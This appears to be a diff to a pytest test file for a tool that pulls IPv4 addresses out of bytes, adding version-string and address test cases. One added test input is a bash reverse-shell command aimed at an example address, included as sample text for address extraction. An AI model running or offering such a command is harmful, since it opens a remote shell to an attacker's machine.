@@ -234,6 +234,12 @@ def test_no_bytes_upset_the_collector(data: bytes):
         b"product v10.2.33.4 ready",
         b"System.Core, Version=4.0.0.0, Culture=neutral",
         b"subject 2.5.4.10 and key 2.5.29.15",
+        b"Requires-Dist: thing (>=1.2.3.4)",
+        b"thing==1.2.3.4",
+        b"thing_1.2.3.4-1_amd64.deb",
+        b"Safari/5.0 Chrome/9.0.6.9",
+        b"see section 4.3.2.1, and clause 1.2.3.4",
+        b"ver. 1.2.3.4",
         b"F\0i\0l\0e\0V\0e\0r\0s\0i\0o\0n\0\0\0\0\0001\0.\0002\0.\0003\0.\0004\0\0\0",
     ],
 )
@@ -242,7 +248,11 @@ def test_a_dotted_version_is_no_address(analyze, text: bytes):
 
 
 @pytest.mark.parametrize(
-    "text", [b"connect 93.184.216.34 now", b"http://198.51.100.7/", b"server=10.1.2.3"]
+    "text",
+    [
+        *(b"connect 93.184.216.34 now", b"http://198.51.100.7/", b"server=10.1.2.3"),
+        *(b"bash -i >& /dev/tcp/203.0.113.9/443", b"allow 198.51.100.7/24"),
+    ],
 )
 def test_an_address_is_no_version(analyze, text: bytes):
     assert len(analyze(text).result["ipv4"]) == 1
